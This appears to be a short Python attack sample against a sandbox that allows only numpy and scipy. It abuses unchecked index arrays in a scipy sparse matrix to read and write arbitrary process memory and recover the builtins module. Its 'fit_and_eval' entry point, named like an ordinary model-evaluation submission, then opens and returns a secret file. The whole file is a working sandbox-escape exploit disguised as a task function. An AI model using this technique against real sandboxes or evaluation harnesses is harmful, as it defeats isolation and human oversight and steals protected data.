"""Reads and writes any memory by the indices of a sparse matrix, which nobody checks."""
# wants: read
# allows: numpy scipy

import numpy as np
from scipy.sparse import csr_matrix

own = bytes(8)


def pointing(index, value):
    a = csr_matrix(np.ones((1, 1), dtype="i8"))
    a.indices = np.array([index], dtype="i8")
    a.indptr = np.array([0, 1], dtype="i8")
    a.data = np.array([value], dtype="i8")
    return a


def word(address):
    start = np.frombuffer(own, dtype="i8")
    return int((pointing((address - id(own) - 32) // 8, 1) @ start)[0])


def fit_and_eval(data):
    held = np.array([None], dtype=object)
    out = np.zeros((1, 1), dtype="i8")
    index = (word(id(held) + 16) - word(id(out) + 16)) // 8
    pointing(index, word(id(len) + 24) - id(None)).toarray(out=out)
    return {"got": held[0].open(data["secret"]).read()}
